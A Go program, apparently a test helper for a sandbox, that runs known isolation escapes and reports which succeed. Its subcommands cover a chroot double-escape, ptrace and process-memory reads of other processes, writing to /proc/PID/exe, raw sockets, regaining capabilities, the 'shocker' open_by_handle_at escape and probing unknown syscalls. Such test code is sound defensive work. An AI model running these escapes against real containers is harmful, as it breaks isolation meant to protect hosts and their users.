// The attack tries one way out of an isolated root, and says in a word whether it
// was one.
package main

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"runtime"
	"strconv"
	"unsafe"

	"golang.org/x/sys/unix"
)

func main() {
	switch os.Args[1] {
	case "fds":
		fds()
	case "chroot":
		chroot()
	case "ptrace":
		ptrace()
	case "memory":
		memory()
	case "exe":
		exe()
	case "raw":
		raw()
	case "capabilities":
		capabilities()
	case "handle":
		handle()
	case "calls":
		calls()
	}
}

// fds looks for descriptors beside the three, and for directories among those.
func fds() {
	for fd := range 1024 {
		var st unix.Stat_t
		if unix.Fstat(fd, &st) != nil {
			continue
		}
		// The Go runtime has some of its own, which are no files.
		if kind := st.Mode & unix.S_IFMT; kind == unix.S_IFDIR || kind == unix.S_IFREG || kind == unix.S_IFSOCK || fd > 2 && kind != 0 && kind != unix.S_IFIFO {
			fmt.Println("leaked", fd)
		}
	}
}

func chroot() {
	_ = os.Mkdir("/tmp/inner", 0o700)
	if err := unix.Chroot("/tmp/inner"); err != nil {
		fmt.Println("no:", err)
		return
	}
	for range 64 {
		_ = unix.Chdir("..")
	}
	if err := unix.Chroot("."); err == nil {
		fmt.Println("escaped")
	}
}

// others are processes that may be the parent.
func others() (pids []int) {
	pids = append(pids, os.Getppid())
	for pid := 1; pid < 400; pid++ {
		thread := unix.Tgkill(os.Getpid(), pid, 0) == nil
		if !thread && unix.Kill(pid, 0) == nil {
			pids = append(pids, pid)
		}
	}
	return pids
}

// own reports whether a process is the shell that started this one: in an isolated
// root that may be traced, as it has no more rights.
func own(pid int) bool { return pid == os.Getppid() && isolated() }

func ptrace() {
	runtime.LockOSThread() // the tracer is a thread
	for _, pid := range others() {
		err := unix.PtraceAttach(pid)
		if err == nil {
			name, _ := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/cmdline")
			// Only a process that has stopped can be let go: the others would stop right after.
			_, _ = unix.Wait4(pid, nil, unix.WALL, nil)
			_ = unix.PtraceDetach(pid)
			if own(pid) {
				continue
			}
			fmt.Println("traced", pid, string(name))
		}
	}
}

// isolated reports whether capabilities were taken: the test of the attack itself
// has them all.
func isolated() bool {
	in, err := unix.PrctlRetInt(unix.PR_CAPBSET_READ, unix.CAP_SYS_CHROOT, 0, 0, 0)
	return err == nil && in == 0
}

func memory() {
	// Any address that is mapped will do: the start of a program without PIE.
	var buf [16]byte
	for _, pid := range others() {
		if own(pid) {
			continue
		}
		local := []unix.Iovec{{Base: &buf[0], Len: 4}}
		for _, at := range []uintptr{0x400000, 0x10000} {
			if n, err := unix.ProcessVMReadv(pid, local, []unix.RemoteIovec{{Base: at, Len: 4}}, 0); err == nil && n > 0 && bytes.HasPrefix(buf[:], []byte("\x7fELF")) {
				fmt.Println("read", pid)
			}
		}
	}
}

// exe opens the program of the parent to overwrite it. A program that runs cannot be opened for that, but soon after.
func exe() {
	for _, pid := range append(others(), 1) {
		if own(pid) {
			continue
		}
		name := fmt.Sprintf("/proc/%d/exe", pid)
		if fd, err := unix.Open(name, unix.O_WRONLY, 0); err == nil || errors.Is(err, unix.ETXTBSY) {
			fmt.Println("opened", name, fd, err)
		}
	}
}

func raw() {
	for _, s := range [][3]int{{unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP}, {unix.AF_PACKET, unix.SOCK_RAW, 0}} {
		if _, err := unix.Socket(s[0], s[1], s[2]); err == nil {
			fmt.Println("opened", s)
		}
	}
}

// capabilities asks for those that were dropped, and for the inheritable and
// ambient sets through which they could come back.
func capabilities() {
	for _, c := range []int{unix.CAP_SYS_CHROOT, unix.CAP_MKNOD, unix.CAP_SYS_PTRACE, unix.CAP_SETPCAP, unix.CAP_NET_RAW, unix.CAP_SYS_ADMIN, unix.CAP_DAC_READ_SEARCH, unix.CAP_SYS_MODULE, unix.CAP_SYS_RAWIO} {
		if in, err := unix.PrctlRetInt(unix.PR_CAPBSET_READ, uintptr(c), 0, 0, 0); err == nil && in != 0 {
			fmt.Println("regained: bounding", c)
		}
		if in, err := unix.PrctlRetInt(unix.PR_CAP_AMBIENT, unix.PR_CAP_AMBIENT_IS_SET, uintptr(c), 0, 0); err == nil && in != 0 {
			fmt.Println("regained: ambient", c)
		}
		header := unix.CapUserHeader{Version: unix.LINUX_CAPABILITY_VERSION_3}
		var data [2]unix.CapUserData
		if unix.Capget(&header, &data[0]) != nil {
			continue
		}
		bit := uint32(1) << (c % 32)
		if d := data[c/32]; (d.Effective|d.Permitted|d.Inheritable)&bit != 0 {
			fmt.Println("regained: has", c)
		}
		data[c/32].Effective |= bit
		data[c/32].Permitted |= bit
		data[c/32].Inheritable |= bit
		if unix.Capset(&header, &data[0]) == nil && unix.Capget(&header, &data[0]) == nil && (data[c/32].Effective|data[c/32].Permitted|data[c/32].Inheritable)&bit != 0 {
			fmt.Println("regained: set", c)
		}
	}
}

// handle opens the root of the file system by its number, as the escape named
// "shocker" does.
func handle() {
	fd, err := unix.Open("/etc/hosts", unix.O_RDONLY, 0)
	if err != nil {
		fmt.Println("no:", err)
		return
	}
	h := struct {
		size, kind uint32
		bytes      [8]byte
	}{8, 1, [8]byte{2}}
	if got, _, errno := unix.Syscall(unix.SYS_OPEN_BY_HANDLE_AT, uintptr(fd), uintptr(unsafe.Pointer(&h)), unix.O_RDONLY); errno == 0 {
		fmt.Println("opened", got)
	}
}

// calls tries the system calls that the kernel of a sandbox has for another process.
func calls() {
	for number := uintptr(1900); number < 1910; number++ {
		if _, _, errno := unix.Syscall(number, 0, 1, 0); errno != unix.ENOSYS {
			fmt.Println("answered", number, errno)
		}
	}
}
